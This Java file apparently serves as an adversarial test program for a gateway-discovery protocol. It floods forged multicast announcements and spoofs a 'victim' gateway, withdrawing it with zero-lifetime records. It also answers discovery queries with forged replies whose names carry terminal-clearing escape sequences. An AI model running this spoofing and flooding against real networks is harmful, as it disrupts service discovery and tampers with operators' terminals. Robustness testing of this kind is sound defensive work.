package minitel.gateway.announce;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.MulticastSocket;
import java.net.NetworkInterface;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.OptionalInt;
import java.util.Random;
import minitel.find.GatewayAnnouncement;
import minitel.find.GatewayAnswer;
import minitel.find.GatewayQuestion;
import minitel.find.MulticastChannel;
import minitel.find.ServiceRecords;
import minitel.find.dns.DnsMessage;
import minitel.find.dns.DnsRecord;
import minitel.find.dns.DnsWriter;

/// Announces thousands of gateways from many addresses, some under the address of the gateway that
/// is really there, and names that would paint over a screen. It never ends.
final class HostileProgram {
    private static final Inet4Address VICTIM = address("10.76.1.10");

    private static final String EVERYBODY = "255.255.255.255";

    private HostileProgram() {}

    private static Inet4Address address(String text) {
        return (Inet4Address) InetAddress.ofLiteral(text);
    }

    /// @param arguments addresses that this machine has; with `forged` before them, they are as if
    ///   they were another's: what is sent there reaches nobody
    public static void main(String[] arguments) throws Exception {
        NetworkInterface card = NetworkInterface.getByName("eth0");
        if (arguments[0].equals("forged")) {
            for (String from : List.of(arguments).subList(1, arguments.length)) {
                Thread.ofPlatform().start(() -> answer(EVERYBODY, from, 2));
            }
            return;
        }
        for (String from : arguments) {
            Thread.ofPlatform().start(() -> answer(EVERYBODY, from, 100));
            Thread.ofPlatform().start(() -> answer(from, from, 100));
        }
        Random random = new Random(1);
        for (int round = 0; ; round++) {
            for (String from : arguments) {
                announce(from, card, round, random);
            }
            if (round == 200) {
                System.out.println("a flood");
            }
        }
    }

    private static void announce(String from, NetworkInterface card, int round, Random random)
            throws IOException {
        try (MulticastSocket socket = new MulticastSocket(null)) {
            socket.setReuseAddress(true);
            socket.bind(new InetSocketAddress(from, MulticastChannel.PORT));
            socket.setNetworkInterface(card);
            for (int i = 0; i < 5; i++) {
                int number = round * 5 + i;
                Inet4Address at = i == 0 ? VICTIM : address(from);
                var told =
                        new GatewayAnnouncement("x", at, i == 0 ? 9001 : 1 + number % 9000, 0, "");
                ServiceRecords records = ServiceRecords.of(told, "e" + number, "h" + number);
                send(socket, DnsWriter.write(DnsMessage.answer(records.all(), List.of())));
                List<DnsRecord> gone = records.all().stream().map(it -> it.lasting(0)).toList();
                send(
                        socket,
                        DnsWriter.write(DnsMessage.answer(i == 0 ? gone : List.of(), List.of())));
                byte[] noise = new byte[random.nextInt(600)];
                random.nextBytes(noise);
                send(socket, ByteBuffer.wrap(noise));
            }
        }
    }

    private static void send(DatagramSocket socket, ByteBuffer message) throws IOException {
        socket.send(new DatagramPacket(message.array(), message.limit(), MulticastChannel.GROUP));
    }

    /// Answers each question many times over.
    private static void answer(String asked, String from, int times) {
        try (DatagramSocket hears = new DatagramSocket(null);
                DatagramSocket says = new DatagramSocket(new InetSocketAddress(from, 0))) {
            hears.setReuseAddress(true);
            hears.bind(new InetSocketAddress(asked, 6500));
            byte[] bytes = new byte[500];
            while (true) {
                DatagramPacket packet = new DatagramPacket(bytes, bytes.length);
                hears.receive(packet);
                OptionalInt nonce =
                        GatewayQuestion.read(ByteBuffer.wrap(bytes, 0, packet.getLength()));
                for (int port = 1; port <= times && nonce.isPresent(); port++) {
                    byte[] answer =
                            forged(nonce.getAsInt(), port == 1 ? VICTIM : address(from), port);
                    says.send(new DatagramPacket(answer, answer.length, packet.getSocketAddress()));
                }
            }
        } catch (Throwable t) {
            System.out.println(t);
        }
    }

    /// The name is written over one of the same length, as ours has none that hides anything.
    private static byte[] forged(int nonce, Inet4Address at, int port) {
        var told = new GatewayAnnouncement("........", at, port == 1 ? 9001 : port, 0, "xx");
        ByteBuffer answer = new GatewayAnswer(nonce, told).write();
        byte[] name = "\f\u001B[2J\u001BcX".getBytes(StandardCharsets.ISO_8859_1);
        System.arraycopy(name, 0, answer.array(), answer.limit() - name.length, name.length);
        return answer.array();
    }
}
